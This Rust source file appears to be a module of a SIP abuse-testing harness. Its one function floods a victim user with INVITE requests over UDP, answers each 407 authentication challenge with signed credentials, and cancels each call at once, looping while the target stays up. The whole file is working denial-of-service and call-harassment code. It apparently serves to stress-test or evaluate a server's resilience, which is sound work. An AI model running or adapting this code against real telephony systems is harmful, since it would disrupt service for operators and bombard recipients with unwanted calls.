//! One who has a password.

use crate::abuse::attacker::{Done, Stands, Target, address};
use crate::abuse::messages::{Draft, status};
use anyhow::Result;
use std::{net::UdpSocket, time::Duration};

/// Calls one user as fast as it can, and gives each call up at once.
pub(super) fn calls(target: &Target) -> Result<Done> {
    let source = UdpSocket::bind((address(0), 0))?;
    source.connect(target.sip)?;
    source.set_read_timeout(Some(Duration::from_millis(50)))?;
    let (at, from) = (source.local_addr()?, format!("u{}", target.bad_user));
    let (mut done, mut buffer, mut number) = (Done::default(), [0; 4096], 0);
    while target.stands() {
        number += 1;
        let invite = Draft {
            method: "INVITE",
            transport: "UDP",
            from: from.clone(),
            to: format!("u{}", target.victim),
            id: format!("x{number}"),
            at,
            wakeable: None,
        };
        source.send(invite.text(0, "").as_bytes())?;
        while let Ok(length) = source.recv(&mut buffer) {
            done.gets(length);
            let Some(signed) = status(&buffer[..length], &invite.id)
                .filter(|status| *status == 407)
                .and_then(|_| invite.signed(&buffer[..length]))
            else {
                continue;
            };
            let text = invite.text(1, &signed);
            source.send(text.as_bytes())?;
            done.sends(text.len());
            let cancel = Draft {
                method: "CANCEL",
                ..invite.clone()
            };
            source.send(cancel.text(2, "").as_bytes())?;
            break;
        }
    }
    Ok(done)
}
